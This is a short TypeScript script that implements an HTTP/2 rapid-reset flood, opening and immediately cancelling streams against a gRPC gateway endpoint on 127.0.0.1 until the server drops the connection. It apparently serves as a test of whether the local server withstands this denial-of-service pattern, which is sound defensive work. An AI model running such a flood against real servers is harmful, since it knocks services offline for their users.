import { connect } from "node:net";

/**
 * Begins HTTP/2 streams and resets each at once, as fast as the connection takes it, until the server cuts it; does so
 * on `connections` connections, one after the other. Prints how many streams it began.
 */
const [port = "", contentType = "", connections = "1"] = process.argv.slice(2);

const path = "/qmtl.gateway.v1.GatewayService/GetSubmission";

/** A header by a name of HPACK's static table, or by a name of its own; neither indexed nor compressed. */
const header = (name: number | string, value: string): Buffer => {
  const start =
    typeof name === "string"
      ? [0, name.length, ...Buffer.from(name)]
      : name < 15
        ? [name]
        : [15, name - 15];
  return Buffer.from([...start, value.length, ...Buffer.from(value)]);
};

const frame = (type: number, flags: number, streamId: number, payload: Buffer): Buffer => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
};

const METHOD_POST = 0x83;
const SCHEME_HTTP = 0x86;
const headers = Buffer.concat([
  Buffer.from([METHOD_POST, SCHEME_HTTP]),
  header(4, path),
  header(1, `127.0.0.1:${port}`),
  header(31, contentType),
  header("te", "trailers"),
]);
const cancel = Buffer.from([0, 0, 0, 8]);

const BATCH = 500;
let begun = 0;

/** One connection, until the server cuts it. */
function flood(): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host: "127.0.0.1", port: Number(port) });
    socket.on("error", () => {});
    socket.on("close", () => resolve());
    socket.resume();
    socket.write(
      Buffer.concat([
        Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        frame(4, 0, 0, Buffer.alloc(0)),
      ]),
    );
    let streamId = 1;
    const send = () => {
      if (socket.destroyed) return;
      const pairs: Buffer[] = [];
      for (let at = 0; at < BATCH; at += 1) {
        pairs.push(frame(1, 4, streamId, headers), frame(3, 0, streamId, cancel));
        streamId += 2;
      }
      begun += BATCH;
      if (socket.write(Buffer.concat(pairs))) setImmediate(send);
      else socket.once("drain", send);
    };
    send();
  });
}

for (let at = 0; at < Number(connections); at += 1) await flood();
process.stdout.write(JSON.stringify({ begun }));
process.exit(0);
